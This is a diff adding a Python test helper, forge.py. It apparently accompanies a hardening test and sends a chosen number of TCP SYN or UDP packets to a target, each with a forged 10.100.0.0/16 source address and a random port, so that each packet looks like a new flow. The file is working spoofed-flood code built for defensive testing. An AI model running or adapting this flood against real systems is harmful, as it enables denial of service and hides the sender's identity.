@@ -1,0 +1,64 @@
+#!/usr/bin/env python3
+# SPDX-License-Identifier: GPL-2.0
+"""A remote attacker's flood, for harden.py: COUNT TCP SYNs or UDP
+datagrams to DST:DPORT, each from a forged source address in
+10.100.0.0/16 and a random source port, with valid checksums, so that
+every one looks like the first packet of a new flow.
+
+usage: forge.py {tcp|udp} DST DPORT COUNT"""
+import random
+import socket
+import struct
+import sys
+
+
+def csum(data):
+    if len(data) % 2:
+        data += b"\0"
+    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
+    while s >> 16:
+        s = (s & 0xffff) + (s >> 16)
+    return ~s & 0xffff
+
+
+def packet(proto, src, dst, sport, dport):
+    if proto == "tcp":
+        l4 = struct.pack("!HHIIBBHHH", sport, dport,
+                         random.getrandbits(32), 0, 5 << 4, 0x02, 64240,
+                         0, 0)
+        num = socket.IPPROTO_TCP
+    else:
+        payload = b"forged"
+        l4 = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + \
+            payload
+        num = socket.IPPROTO_UDP
+    pseudo = src + dst + struct.pack("!BBH", 0, num, len(l4))
+    c = csum(pseudo + l4)
+    off = 16 if proto == "tcp" else 6
+    l4 = l4[:off] + struct.pack("!H", c or 0xffff) + l4[off + 2:]
+    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(l4),
+                     random.getrandbits(16), 0, 64, num, 0, src, dst)
+    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
+    return ip + l4
+
+
+def main():
+    proto, dst, dport, count = sys.argv[1], sys.argv[2], int(sys.argv[3]), \
+        int(sys.argv[4])
+    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    daddr = socket.inet_aton(dst)
+    sent = 0
+    for i in range(count):
+        src = bytes([10, 100, (i >> 8) & 255, i & 255])
+        pkt = packet(proto, src, daddr, random.randrange(1024, 65536),
+                     dport)
+        try:
+            s.sendto(pkt, (dst, 0))
+            sent += 1
+        except OSError:
+            pass
+    print(sent)
+
+
+if __name__ == "__main__":
+    main()
